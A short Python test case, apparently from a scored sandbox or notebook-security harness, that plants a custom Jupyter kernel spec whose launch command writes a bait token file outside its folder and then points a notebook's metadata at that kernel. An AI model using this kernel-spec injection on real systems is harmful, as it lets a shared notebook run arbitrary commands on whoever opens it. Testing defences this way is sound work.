# /// attack
# tries = "Names a kernel of its own in the notebook, and hands in its specification."
# points = 10
# honest = true
# ///

import json
import sys


def submit(place):
    command = [sys.executable, "-c", f"open({place.bait['outside'] + '/' + place.bait['token']!r}, 'w')"]
    for folder in (place.folder / "kernels" / "mine", place.folder / "share/jupyter/kernels/mine"):
        folder.mkdir(parents=True)
        spec = {"argv": command, "display_name": "Mine", "language": "python"}
        (folder / "kernel.json").write_text(json.dumps(spec))
    place.notebook.metadata["kernelspec"] = {"name": "mine", "display_name": "Mine", "language": "python"}
    place.save()
